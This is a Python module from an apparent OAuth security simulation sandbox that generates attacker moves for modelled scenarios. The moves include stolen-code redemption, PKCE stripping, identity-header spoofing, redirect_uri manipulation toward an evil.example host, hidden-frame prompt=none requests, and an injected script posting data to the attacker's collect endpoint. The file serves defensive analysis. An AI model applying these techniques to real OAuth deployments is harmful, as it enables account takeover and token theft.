"""The moves that the attacker has: steps of the scenario language, generated instead of written.

Their arguments come from what she knows and from what everybody knows; they were written from the RFCs and from a catalogue of
attacks, not from the parties.  Nothing here runs one.  Four kinds, by what they do to the world:

- gain: only adds to her knowledge;
- probe: asks an API whether a goal is reached, perhaps in two steps;
- change: changes somebody's state, and may open one way and close another;
- harm: destroys what is read.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from functools import cached_property
from typing import Any, Literal

from sandbox.attacker.asks import Ask, asks, resources
from sandbox.attacker.forgeries import KEY_SET, Forgery
from sandbox.attacker.question import Question
from sandbox.attacker.values import Value
from sandbox.core.memo import memo
from sandbox.core.wire import origin, pairs, split
from sandbox.engine.player import Stage
from sandbox.language.document import Step
from sandbox.protocol.cast import CAST, EVIL, EVIL_AS, ISSUER, internal, title
from sandbox.verbs.table import VERBS
from sandbox.verbs.verb import Args
from sandbox.world.parties.authorization_server import AuthorizationServer

Kind = Literal["gain", "probe", "change", "harm"]
Group = Literal["read", "sign in", "call", "redeem", "forge", "lure", "act", "wait"]
Chain = tuple["Move", ...]  # in which `$1.token` stands for what the first of them gave

HERS, ACCOUNT = "mallory", "mallory_browser"
AUTHORIZE = f"{ISSUER}/authorize"
FOR_SPAS = ("app",)  # the clients that live in a page unless they have a backend
CONFIDENTIAL = ("budget",)  # third parties' web apps in which she can have an account, too
PUBLIC_ELSEWHERE = ("mobile",)  # clients without a secret that are registered at her server
PASSED_ON = ["state", "redirect_uri", "scope", "code_challenge", "code_challenge_method", "nonce", "resource"]
SIGN_IN_CLIENTS = ("app", "budget", "mobile")  # honest clients of the authorization server
IDENTITIES = ("X-User-Id", "X_User_Id")  # headers by which services behind a gateway are told who calls
TIES = ("code_challenge", "code_challenge_method", "dpop_jkt")  # what an authorization request ties its code to
OWN_PAGE = {"X-CSRF": "1"}  # what the page of an app with a backend adds to its requests (RFC 10017 §6.1.3.3)


@dataclass(frozen=True)
class Move:
    """One move.  `sign` tells it from others by what it means, with provenances in the place of references."""

    do: str
    args: dict[str, Any] = field(hash=False)
    kind: Kind
    group: Group
    say: str
    uses: tuple[Value, ...] = ()
    forges: bool = False
    once: bool = False  # whether what comes of it does not depend on the state, so that one try is enough

    @cached_property
    def checked(self) -> Args:
        """The arguments as its verb takes them."""
        actor, _, verb = self.do.partition(".")
        args: Args = VERBS[verb].args.model_validate(self.args)
        args.suits(actor)
        return args

    @cached_property
    def step(self) -> Step:
        """The move as a step, still without an id."""
        return Step.model_construct(
            id="",
            do=self.do,
            args=self.checked,
            say=self.say[:400],
            expect=None,
            predict=None,
            optional=False,
            control=False,
        )

    @cached_property
    def sign(self) -> str:
        text = json.dumps([self.do, self.args], sort_keys=True, default=str)
        for value in self.uses:
            text = text.replace(f'"{value.ref}', f'"<{value.name}>')
        return text


def _move(do: str, kind: Kind, group: Group, say: str, *uses: Value, **args: Any) -> Move:
    return Move(do, {k.rstrip("_"): v for k, v in args.items() if v is not None}, kind, group, say, uses)


# ---------------------------------------------------------------- what only adds to her knowledge


def gains(question: Question, stage: Stage, known: tuple[Value, ...], anew: bool, touched: frozenset[str]) -> Iterator[Move]:
    """Reading what leaks at those who took part in the last step, fetching public keys, going on in her own browser, and, where she may
    be somebody else by now (`anew`), signing in as herself."""
    yield from (move for move in _reads(question) if touched.intersection(move.args.values()))
    if "account" in question.can:
        yield from _agreeing(stage)
        yield from _own_sign_ins(question) if anew else ()
    if isinstance(stage.world.issuer, AuthorizationServer) and not any(v.kind == "jwk" for v in known):
        yield _move(f"{HERS}.send", "gain", "read", "Mallory fetches the public keys.", method="GET", url=f"{ISSUER}/jwks")


@memo("table", 1000)
def _read(say: str, **args: str | None) -> Move:
    return _move(f"{HERS}.read", "gain", "read", say, **args)


def _reads(question: Question) -> Iterator[Move]:
    for party in question.of("log"):
        for match in ("code=", "code_challenge=", "access_token=") if CAST[party].kind == "browser" else (None, "access_token="):
            about = f", where it says {match}" if match else ""
            yield _read(f"Mallory reads the log of {title(party)}{about}.", log=party, match=match)
    for browser in question.of("history"):
        for match in (None, "code=", "access_token="):
            about = f", where it says {match}" if match else ""
            say = f"Mallory reads the history of {title(browser)}{about}."
            yield _read(say, history=browser, match=match)
    for client in question.of("storage"):
        for place in (None,) if client in CONFIDENTIAL else question.used_at(client):
            say = f"Mallory reads what {title(client)} keeps{_where(question, client, place)}."
            yield _read(say, storage=client, browser=place)
    for device in question.of("device"):
        yield _read(f"Mallory copies all that is on {title(device)}.", device=device)


def _agreeing(stage: Stage) -> Iterator[Move]:
    """Where her own browser shows a page that asks, she says yes, and stops before the answer is delivered."""
    browser = stage.world.browsers[ACCOUNT]
    if browser.held is None and browser.page is not None and browser.page.page in ("login", "consent"):
        client = dict(pairs(split(browser.url).query)).get("client_id", "")
        if client in CAST:
            yield _move(f"{ACCOUNT}.approve", "gain", "sign in", "Mallory says yes, and stops before the answer arrives.", hold=client)


def _own_sign_ins(question: Question) -> Iterator[Move]:
    for client in ("mobile", *FOR_SPAS):
        for api in (None, *resources(question)):
            say = f"Mallory signs in to {title(client)} as herself{f', for {title(api)}' if api else ''}, and keeps her token."
            args = {"browser": ACCOUNT, "user": HERS, "scope": "read write", "api": api}
            yield _move(f"{client}.sign_in", "gain", "sign in", say, **args)


# ---------------------------------------------------------------- what only asks


def probes(question: Question, stage: Stage, known: tuple[Value, ...], begun: frozenset[str] | None = frozenset()) -> Iterator[Chain]:
    """Each request that could show one of the goals, with all that she has.

    `begun`: the clients at which she has a flow of her own; None if what they show her cannot have changed.
    """
    wanted = asks(question)
    for value in known:
        if value.kind in ("token", "id_token") and not value.forged and _counts(question, value):
            for ask in wanted:
                yield from _shown(ask, value)
                yield from _vouched(ask, value, known)
        elif value.kind == "request" and value.user != HERS:
            for ask in wanted:
                yield from _repeated(question, ask, value)
        elif value.kind == "cookies" and value.user != HERS:
            yield from _as_her_browser(question, value)
    for ask in wanted:
        yield from _named_in_headers(question, ask, known)
        yield from _for_somebody(question, stage, ask)
        if "client" in question.can and stage.world.clients["evil_app"].sessions:
            for place in question.used_at("evil_app"):
                say = f"Her client asks for {ask.said}{_where(question, 'evil_app', place)}."
                args = {"browser": place, "api": ask.api, "method": ask.method, "path": ask.path}
                yield (_move("evil_app.call_api", _kind(ask), "call", say, **args),)
        for client in question.of("rides") if not ask.changes else ():
            yield from (_ridden(client, ask, place, _where(question, client, place)) for place in question.used_at(client))
    if begun is not None:
        yield from _own_pages(question, begun)


def _for_somebody(question: Question, stage: Stage, ask: Ask) -> Iterator[Chain]:
    """A service that she operates asks another one for a person who has not sent it anything, where services call each other so."""
    for service in question.of("operates"):
        if service in stage.world.apis and stage.world.apis[service].policy.calls != "off" and service != ask.api:
            for user in dict.fromkeys(_people(question)):
                say = f"{title(service)} says that it calls for {title(user)}, and asks for {ask.said}."
                args = {"user": user, "api": ask.api, "method": ask.method, "path": ask.path}
                yield (_move(f"{service}.act_for", _kind(ask), "call", say, **args),)


def _people(question: Question) -> Iterator[str]:
    """The people whom the goals are about."""
    people = (t.what.partition(":")[0] for t in question.targets)
    return (name for name in people if name in CAST)


def _counts(question: Question, value: Value) -> bool:
    """Whether a token can reach a goal as it is; her own only where she is after what she may do no more."""
    return value.user != HERS or any(
        t.goal.after is not None or (t.goal.late and question.ended(t.goal.late)[0] == HERS) for t in question.targets
    )


def _kind(ask: Ask) -> Kind:
    return "harm" if ask.changes else "probe"


def shown(question: Question, forged: Value) -> Iterator[Chain]:
    """A token that she has made, at each API."""
    return (chain for ask in asks(question) for chain in _shown(ask, forged))


def _shown(ask: Ask, value: Value) -> Iterator[Chain]:
    """A token in each of the ways in which it can be presented (RFC 6750 §2, RFC 9449 §7)."""
    who = "evil_app" if value.client == "evil_app" else HERS  # what Alice has allowed to that client is not stolen by handing it on
    say = f"{'Her client' if who == 'evil_app' else 'Mallory'} asks for {ask.said} with {_thing(value)}"
    args = {"api": ask.api, "method": ask.method, "path": ask.path, "token": value.ref}
    kind = _kind(ask)
    yield (_move(f"{who}.call_api", kind, "call", f"{say}.", value, **args),)
    if ask.behind_gateway:
        yield (_move(f"{who}.call_api", kind, "call", f"{say}, through the gateway.", value, via="gateway", **args),)
    if value.bound and who == HERS:
        yield (_move(f"{who}.call_api", kind, "call", f"{say}, as a plain bearer token.", value, scheme="bearer", **args),)
        change = {"query": {"access_token": value.ref}}
        url = f"{CAST[ask.api].host}{ask.path}"
        yield (_move(f"{who}.send", kind, "call", f"{say} in the address.", value, method=ask.method, url=url, change=change),)


def _vouched(ask: Ask, token: Value, known: tuple[Value, ...]) -> Iterator[Chain]:
    """A bound token through the gateway, with somebody's certificate in the header by which a gateway vouches for one (RFC 9440 §2.2)."""
    for certificate in known if token.bound and ask.behind_gateway else ():
        if certificate.kind == "certificate":
            say = f"Mallory asks the gateway for {ask.said} with {_thing(token)}, and adds {certificate.name}."
            headers = {"Client-Cert": certificate.ref}
            args = {"api": ask.api, "method": ask.method, "path": ask.path, "token": token.ref, "via": "gateway", "headers": headers}
            yield (_move(f"{HERS}.call_api", _kind(ask), "call", say, token, certificate, **args),)


def _thing(value: Value) -> str:
    """A value as a sentence names it."""
    return "the forged token" if value.forged else value.name.partition(", challenge")[0]


def _repeated(question: Question, ask: Ask, value: Value) -> Iterator[Chain]:
    """A request that she has seen, sent once more: from her machine, and from one that she operates."""
    change = {"method": ask.method, "host": split(CAST[ask.api].host).netloc, "path": ask.path}
    for sender in (None, *question.of("operates")):
        say = f"Mallory repeats {value.name} as {ask.said}{f', from {title(sender)}' if sender else ''}."
        yield (_move(f"{HERS}.send", _kind(ask), "call", say, value, like=value.ref, change=change, from_=sender),)


def _as_her_browser(question: Question, cookies: Value) -> Iterator[Chain]:
    """Copied cookies, sent to those who keep a session under them: whoever holds a session's identifier has the session."""
    for client in FOR_SPAS:
        for ask in asks(question):
            say = f"Mallory asks {title(client)} for {ask.said} with {cookies.name}."
            url, headers = f"{CAST[client].host}/api/{ask.api}{ask.path}", OWN_PAGE | {"Cookie": cookies.ref}
            yield (_move(f"{HERS}.send", _kind(ask), "call", say, cookies, method=ask.method, url=url, headers=headers),)
    for client in CONFIDENTIAL:
        say = f"Mallory opens the page of {title(client)} with {cookies.name}."
        headers = {"Cookie": cookies.ref}
        yield (_move(f"{HERS}.send", "probe", "call", say, cookies, method="GET", url=f"{CAST[client].host}/me", headers=headers),)


def _named_in_headers(question: Question, ask: Ask, known: tuple[Value, ...]) -> Iterator[Chain]:
    """Headers that say who is calling: inside, and to the gateway beside a token of her own (RFC 9700 §4.13)."""
    victim = next((t.what.partition(":")[0] for t in question.targets if t.predicate in ("read", "write")), "alice")
    if "internal" in question.of("reaches"):
        headers = {IDENTITIES[0]: victim, "X-Scope": "read write"}
        say = f"Mallory says from inside that she is {victim}, and asks for {ask.said}."
        move = _move(f"{HERS}.send", _kind(ask), "call", say, method=ask.method, url=internal(ask.api) + ask.path, headers=headers)
        yield (replace(move, once=True),)
    own = next((v for v in known if v.kind == "token" and v.user == HERS and not v.forged), None)
    for name in IDENTITIES if own is not None and ask.behind_gateway else ():
        say = f"Mallory asks the gateway for {ask.said} with her own token, and adds {name}: {victim}."
        args = {"api": ask.api, "method": ask.method, "path": ask.path, "via": "gateway", "headers": {name: victim}}
        assert own is not None
        yield (replace(_move(f"{HERS}.call_api", _kind(ask), "call", say, own, token=own.ref, **args), once=True),)


def _ridden(client: str, ask: Ask, place: str, where: str) -> Chain:
    """Her script asks as the page does, by way of its backend, and posts the answer home."""
    url, page = f"{CAST[client].host}/api/{ask.api}{ask.path}", {"browser": place, "in_": client}
    return (
        _move(f"{HERS}.act", "gain", "act", f"Her script in the page asks for {ask.said}{where}.", url=url, headers=OWN_PAGE, **page),
        _move(f"{HERS}.act", "probe", "act", "It posts the answer home.", url=f"{EVIL}/collect", json="$1.json", **page),
    )


def _where(question: Question, client: str, place: str | None) -> str:
    """Where this happens, in words, if it could be at several places."""
    return f" on {title(place)}" if place and len(question.used_at(client)) > 1 else ""


def _own_pages(question: Question, begun: frozenset[str]) -> Iterator[Chain]:
    """What clients show her in her own browser: what others have put into her account, and, where she has meddled, what is theirs."""
    if "account" in question.can and any(t.predicate in ("read", "session") for t in question.targets):
        for client in CONFIDENTIAL:
            say = f"Mallory looks at her page at {title(client)}."
            yield (_move(f"{ACCOUNT}.visit", "probe", "call", say, url=f"{CAST[client].host}/me"),)
        for ask in asks(question):
            if not ask.changes and (ask.is_filled_by_others or begun.intersection(FOR_SPAS)):
                say = f"Mallory looks at {ask.path} in her own {title('app')}."
                args = {"browser": ACCOUNT, "api": ask.api, "path": ask.path}
                yield (_move("app.call_api", "probe", "call", say, **args),)


# ---------------------------------------------------------------- what only lets time pass

PAUSES = {"A minute": 60, "An hour": 3_600, "A day": 86_400}


def waits() -> Iterator[Move]:
    """Letting time pass.  The search does not do it: time ends what she has, and gives her nothing."""
    return (_move("clock.wait", "change", "wait", f"{name} passes.", seconds=seconds) for name, seconds in PAUSES.items())


# ---------------------------------------------------------------- what is made


def made(forgery: Forgery, question: Question) -> Chain:
    """The steps that make a token, and put her key set where the token says, if it says so."""
    mine = question.named("mallory.key")
    serve = _move(f"{HERS}.serve", "gain", "forge", "Mallory puts her keys on her own host.", url=KEY_SET, json=f"${mine}.jwks")
    forge = Move(f"{HERS}.forge", forgery.args, "gain", "forge", f"Mallory makes {forgery.said}.", forgery.uses, True)
    return (serve, forge) if forgery.served else (forge,)


# ---------------------------------------------------------------- what changes somebody's state


def changes(question: Question, stage: Stage, known: tuple[Value, ...], begun: frozenset[str]) -> Iterator[Move]:
    """Redeeming, luring, injecting, acting in a page, beginning flows of her own; `begun` are the clients of the latter."""
    yield from _passwords(question, known)
    yield from _refreshed(question, known)
    yield from _taken(question)
    yield from _warmed(question, known)
    if not isinstance(stage.world.issuer, AuthorizationServer):
        return
    for value in known:
        if value.kind == "code" and value.user != HERS:
            yield from _redeemed(question, value, known)
        elif value.kind == "cookies" and value.user != HERS:
            yield from _signed_in_already(question, value)
    for client in question.of("script"):
        yield from _framed(question, client)
    if "account" in question.can:
        yield from _own_flows(stage, known, begun)
    if "lures" in question.can:
        for browser in question.browsers:
            where = f" on {title(browser)}" if len(question.browsers) > 1 else ""
            yield from _lured_to_hers(known, browser, where)
            yield from _lured_to_ask(question, browser, where)
            yield from _shown_in_a_frame(question, browser, where) if "client" in question.can else ()
    if "server" in question.can:
        yield from _passing_on(known)
        yield from _lured_to_her_server(question) if "lures" in question.can else ()
    if "account" in question.can:
        yield from _handed_on(known)


def _passwords(question: Question, known: tuple[Value, ...]) -> Iterator[Move]:
    for value in known:
        if value.kind == "password":
            who, client = ("evil_app", "evil_app") if "client" in question.can else (HERS, "app")
            say = f"{title(who)} logs in as {value.user or 'alice'} with the password."
            yield _move(f"{who}.redeem", "change", "redeem", say, value, client=client, user=value.user or "alice", password=value.ref)


def _refreshed(question: Question, known: tuple[Value, ...]) -> Iterator[Move]:
    """A refresh token, for the same API and for others (RFC 6749 §6, RFC 8707 §2.2)."""
    for value in known:
        if value.kind == "refresh_token" and _counts(question, value):
            for api in (None, *resources(question)):
                say = f"Mallory redeems {value.name}{f', for {title(api)}' if api else ''}."
                yield _move(
                    f"{HERS}.redeem", "change", "redeem", say, value, client=value.client or "app", refresh_token=value.ref, api=api
                )


def _taken(question: Question) -> Iterator[Move]:
    """Reading what a page keeps, and leaving nothing there: the client cannot renew, and no reuse is seen."""
    for client in question.of("storage"):
        if client in FOR_SPAS:
            for place in question.used_at(client):
                say = f"Mallory takes what {title(client)} keeps{_where(question, client, place)}, and leaves nothing."
                yield _move(f"{HERS}.read", "change", "read", say, storage=client, browser=place, take=True)


def _warmed(question: Question, known: tuple[Value, ...]) -> Iterator[Move]:
    """Using a token before it is ended: an API may remember what it was told about it (RFC 7662 §4, caching)."""
    if any(t.predicate == "late" for t in question.targets):
        for value in known:
            if value.kind == "token" and not value.forged and _counts(question, value) and value.client != "evil_app":
                for ask in asks(question):
                    if not ask.changes:
                        say = f"Mallory uses {_thing(value)} at {title(ask.api)}."
                        args = {"api": ask.api, "path": ask.path, "token": value.ref}
                        yield _move(f"{HERS}.call_api", "change", "call", say, value, **args)


def _redeemed(question: Question, code: Value, known: tuple[Value, ...]) -> Iterator[Move]:
    """A code, with the verifier that fits if she has it (RFC 7636 §4.5), at the address that it was sent to (RFC 6749 §4.1.3)."""
    own, plain = f"${question.named('mallory.pkce')}.verifier", [v for v in known if v.kind in ("challenge", "verifier")]
    verifiers: dict[str, list[tuple[str | None, tuple[Value, ...]]]] = {
        "none": [(None, ())],
        "hers": [(own, ())],
        "another": [(None, ()), *((v.ref, (v,)) for v in plain)],
    }
    elsewhere = code.place if code.client in CAST and not code.place.startswith(f"{CAST[code.client].host}/cb") else None
    for verifier, uses in verifiers[code.challenge or "none"]:
        for api in (None, *resources(question)):
            say = f"Mallory redeems {_thing(code)}{f', for {title(api)}' if api else ''}."
            args = {"client": code.client, "code": code.ref, "verifier": verifier, "redirect_uri": elsewhere, "api": api}
            yield _move(f"{HERS}.redeem", "change", "redeem", say, code, *uses, **args)
    if "client" in question.can:
        for api in (None, *resources(question)) if code.challenge == "hers" else (None,):
            say = f"Her client redeems {_thing(code)}{f', for {title(api)}' if api else ''}."
            args = {"client": "evil_app", "code": code.ref, "verifier": own if code.challenge == "hers" else None, "api": api}
            yield _move("evil_app.redeem", "change", "redeem", say, code, **args)


def _signed_in_already(question: Question, cookies: Value) -> Iterator[Move]:
    """Authorization requests of her own with copied cookies: the server takes her for somebody who has signed in (RFC 6749 §3.1)."""
    for client in SIGN_IN_CLIENTS:
        for what, query in _requests(question, client, f"{CAST[client].host}/cb"):
            say = f"With {cookies.name} Mallory asks for {what}."
            args = {"method": "GET", "url": AUTHORIZE, "change": {"query": query}, "headers": {"Cookie": cookies.ref}}
            yield _move(f"{HERS}.send", "change", "sign in", say, cookies, **args)


def _requests(question: Question, client: str, place: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Authorization requests of her own making, each with what it asks for, in words (RFC 6749 §4.1.1, §4.2.1)."""
    pkce = question.named("mallory.pkce")
    challenge = {"code_challenge": f"${pkce}.challenge", "code_challenge_method": "S256"}
    for kind, added, said in (("code", {}, ""), ("code", challenge, " with Mallory's challenge"), ("token", {}, "")):
        query = {"response_type": kind, "client_id": client, "scope": "read", "redirect_uri": place}
        yield f"a {kind} for {title(client)}{said}", query | added


def _framed(question: Question, client: str) -> Iterator[Move]:
    """Her script opens an authorization request in a frame that nobody sees, and reads where it ends (OIDC Core §3.1.2.1, prompt=none)."""
    for what, query in _requests(question, client, f"{CAST[client].host}/cb"):
        for place in question.used_at(client):
            say = f"In a frame Mallory's script asks for {what}{_where(question, client, place)}."
            args = {"browser": place, "in": client, "url": AUTHORIZE, "change": {"query": query | {"prompt": "none"}}, "frame": True}
            yield _move(f"{HERS}.act", "change", "act", say, **args)


def _own_flows(stage: Stage, known: tuple[Value, ...], begun: frozenset[str]) -> Iterator[Move]:
    """Sign-ins of her own that stop half way, one for each client, and what she can put into them."""
    for client in (c for c in (*CONFIDENTIAL, *FOR_SPAS) if c not in begun):
        for at in (client, "auth"):
            say = f"Mallory signs in to {title(client)} as herself, and stops before {'the answer arrives' if at == client else 'asking'}."
            yield _move(f"{client}.sign_in", "change", "sign in", say, browser=ACCOUNT, user=HERS, scope="read write", hold=at)
    held = stage.world.browsers[ACCOUNT].held
    if held is None:
        return
    url = split(held.request.url)
    query, fragment = dict(pairs(url.query)), dict(pairs(url.fragment))
    if origin(held.request.url) == ISSUER:
        yield _move(f"{ACCOUNT}.follow", "change", "sign in", "Mallory goes on.", hold=query.get("client_id"))
        if "code_challenge" in query:
            say = "Mallory goes on without the challenge."
            yield _move(f"{ACCOUNT}.follow", "change", "sign in", say, change=_bare(query), hold=query["client_id"])
        return
    client = next((c for c in CAST if CAST[c].kind == "client" and CAST[c].host == origin(held.request.url)), "")
    for value in known:
        if value.kind == "code" and value.client == client and value.user != HERS and "code" in query:
            say = f"Mallory goes on with {_thing(value)} in the place of her own."
            yield _move(f"{ACCOUNT}.follow", "change", "sign in", say, value, change={"query": {"code": value.ref}})
        if value.kind == "token" and value.user not in ("", HERS) and "access_token" in fragment:
            say = f"Mallory goes on with {_thing(value)} in the place of her own."
            yield _move(f"{ACCOUNT}.follow", "change", "sign in", say, value, change={"fragment": {"access_token": value.ref}})


def _bare(query: Mapping[str, str]) -> dict[str, Any]:
    """What takes out of a request all that its code would be tied to (RFC 7636 §4.3, RFC 9449 §10)."""
    return {"query": {name: None for name in TIES if name in query}}


def _lured_to_hers(known: tuple[Value, ...], browser: str, where: str) -> Iterator[Move]:
    """Answers that Alice never asked for, and requests that Mallory has begun (RFC 9700 §4.7, RFC 6749 §10.12)."""
    for value in known:
        if (value.kind == "address" and value.user == HERS) or value.kind == "asking":
            args, say = {"browser": browser, "url": value.ref}, f"Alice follows a link{where} to {_thing(value)}"
            yield _move(f"{HERS}.lure", "change", "lure", f"{say}.", value, **args)
            if "state=" in value.value:
                bare = {"query": {"state": None}}
                yield _move(f"{HERS}.lure", "change", "lure", f"{say}, without state.", value, change=bare, **args)
            if value.kind == "asking" and "code_challenge=" in value.value:
                bare = _bare(dict(pairs(split(value.value).query)))
                yield _move(f"{HERS}.lure", "change", "lure", f"{say}, without the challenge.", value, change=bare, **args)


def _lured_to_ask(question: Question, browser: str, where: str) -> Iterator[Move]:
    """Authorization requests of her own making in Alice's browser, answered at the right place and at wrong ones (RFC 9700 §4.1.1)."""
    for client in SIGN_IN_CLIENTS:
        host = CAST[client].host
        places = [f"{host}/cb"]
        if host.startswith("https:"):
            places += [f"{host}.evil.example/cb", f"{host}/cb/../out?u={EVIL}/"]
        for place in places:
            for what, query in _requests(question, client, place):
                say = f"Alice follows a link{where} that asks for {what}, to be sent to {place}."
                yield _move(f"{HERS}.lure", "change", "lure", say, browser=browser, url=AUTHORIZE, change={"query": query})


def _shown_in_a_frame(question: Question, browser: str, where: str) -> Iterator[Move]:
    """The consent page for her own client, in a frame of a page of hers that nobody sees (RFC 9700 §4.16)."""
    for what, query in _requests(question, "evil_app", f"{CAST['evil_app'].host}/cb"):
        if query["response_type"] == "code":
            say = f"A page of Mallory's asks{where} in a frame that nobody sees for {what}."
            yield _move(f"{HERS}.frame", "change", "lure", say, browser=browser, url=AUTHORIZE, change={"query": query})


def _passing_on(known: tuple[Value, ...]) -> Iterator[Move]:
    """The login page of her own server, which sends people on to the honest one: with the request of whoever comes, or with one that a
    client has made for her, in which the state alone is theirs (RFC 9700 §4.4.1)."""
    login, say = f"{EVIL_AS}/authorize", "The login page of Mallory's server sends people on to the honest one"
    for client in PUBLIC_ELSEWHERE:
        on = f"{AUTHORIZE}?client_id={client}&response_type=code"
        yield _move(f"{HERS}.serve", "change", "sign in", f"{say}, in the name of {title(client)}.", url=login, redirect=on, keep=PASSED_ON)
    for value in known:
        if value.kind == "asking":
            said = f"{say}, with {_thing(value)}."
            yield _move(f"{HERS}.serve", "change", "sign in", said, value, url=login, redirect=value.ref, keep=["state"])


def _lured_to_her_server(question: Question) -> Iterator[Move]:
    """Sign-ins of Alice's at clients that are registered at her server, too."""
    for client in (*PUBLIC_ELSEWHERE, *CONFIDENTIAL):
        url = f"{CAST[client].host}/login?at={EVIL_AS}&scope=openid%20read"
        for place in question.used_at(client):
            where = _where(question, client, place)
            say = f"Alice follows a link{where} that begins a sign-in to {title(client)} at Mallory's server."
            yield _move(f"{HERS}.lure", "change", "lure", say, browser=place, url=url)


def _handed_on(known: tuple[Value, ...]) -> Iterator[Move]:
    """Tokens from elsewhere, brought to a client that lets people sign in with them (RFC 6749 §10.16)."""
    ids = [v for v in known if v.kind == "id_token" and v.user != HERS]
    for token in (v for v in known if v.kind == "token" and v.user not in ("", HERS) and not v.forged):
        for ident in (ids[0], None) if ids else (None,):
            for client in CONFIDENTIAL:
                body = {"access_token": token.ref} | ({"id_token": ident.ref} if ident else {})
                uses: Iterable[Value] = (token, ident) if ident else (token,)
                say = f"Mallory brings {title(client)} {_thing(token)}{' and the ID token' if ident else ''}."
                args = {"method": "POST", "url": f"{CAST[client].host}/api/login", "json": body}
                yield _move(f"{ACCOUNT}.send", "change", "sign in", say, *uses, **args)
